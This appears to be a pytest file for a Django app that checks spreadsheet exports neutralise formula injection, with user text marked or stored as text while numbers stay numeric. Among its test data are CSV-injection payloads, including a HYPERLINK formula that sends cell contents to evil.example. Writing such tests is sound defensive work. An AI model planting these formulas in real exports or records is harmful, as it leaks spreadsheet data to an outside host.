"""F7: text a user typed never becomes a formula in an exported spreadsheet (CSV or XLSX), while
numbers, negative ones included, stay numbers; an export still imports back unchanged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from ntm.accounts.models import User
from ntm.cells import SafeCsvWriter
from ntm.dataio.export import export
from ntm.dataio.plan import build_plan
from ntm.finance.models import Work
from ntm.indicators.models import IndicatorValue
from ntm.indicators.services import ValueChange, save_values
from ntm.planning.models import Plan
from ntm.units.models import AdminUnit, Level

pytestmark = pytest.mark.django_db

SET, YEAR = "xa-ntm-2021", 2024
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem nguồn")'


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _other(value):
    return not value if isinstance(value, bool) else (value - 1 if value >= 1 else value + 1)


def test_csv_writer_marks_formula_text_and_keeps_numbers():
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer, lineterminator="\n")
    writer.writerow(["=1+2", "+3", "-4 ha", "@SUM(A1)", "\tx", -5, -2.5, "Xã Bản Bo", ""])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        "'=1+2",
        "'+3",
        "'-4 ha",
        "'@SUM(A1)",
        "'\tx",
        "-5",
        "-2.5",
        "Xã Bản Bo",
        "",
    ]


def test_values_csv_writes_a_formula_source_as_text_and_imports_it_back():
    district = AdminUnit.objects.get(code="106", level=Level.DISTRICT)
    ban_bo = AdminUnit.objects.get(code="03424", valid_from__isnull=True)
    officer = User.objects.get(username="xa.banbo")
    current = IndicatorValue.objects.current().get(
        unit=ban_bo, set_code=SET, period=str(YEAR), indicator_code="2.1"
    )
    save_values(
        actor=officer,
        unit=ban_bo,
        set_code=SET,
        year=YEAR,
        changes=[ValueChange("2.1", _other(current.value), current.version, source=HYPERLINK)],
        reason="kiểm thử công thức",
    )
    result = export(user=None, parent=district, set_code=SET, year=YEAR, what="values", fmt="csv")
    rows = _csv_rows(result.data)
    row = next(r for r in rows if r["Mã đơn vị"] == "03424" and r["Chỉ tiêu"] == "2.1")
    assert row["Nguồn"] == "'" + HYPERLINK
    assert not any(r["Giá trị"].startswith("'") for r in rows)  # numbers are never marked
    plan = build_plan("so-lieu.csv", result.data, actor=User.objects.get(username="huyen.tamduong"))
    assert plan.ok, plan.errors[:3]
    assert not plan.value_changes  # the source reads back as typed, so nothing changes


def test_plan_xlsx_stores_formula_labels_and_names_as_text(client, login):
    plan = Plan.objects.get(unit__code="106", year=2024)
    target = plan.targets.order_by("pk").first()
    target.label = "=2+3"
    target.save(update_fields=["label"])
    work = Work.objects.filter(plan=plan).order_by("pk").first()
    work.name = '=HYPERLINK("http://evil.example","x")'
    work.save(update_fields=["name"])
    login("huyen.tamduong")
    response = client.get(f"/reports/plans/{plan.pk}/xlsx/?actuals=1")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = {
        cell.value: cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in ("=2+3", work.name)
    }
    assert cells == {"=2+3": "s", work.name: "s"}
    formulas = [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    numbers = [c.value for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "n"]
    assert numbers and all(isinstance(v, int | float) for v in numbers if v is not None)
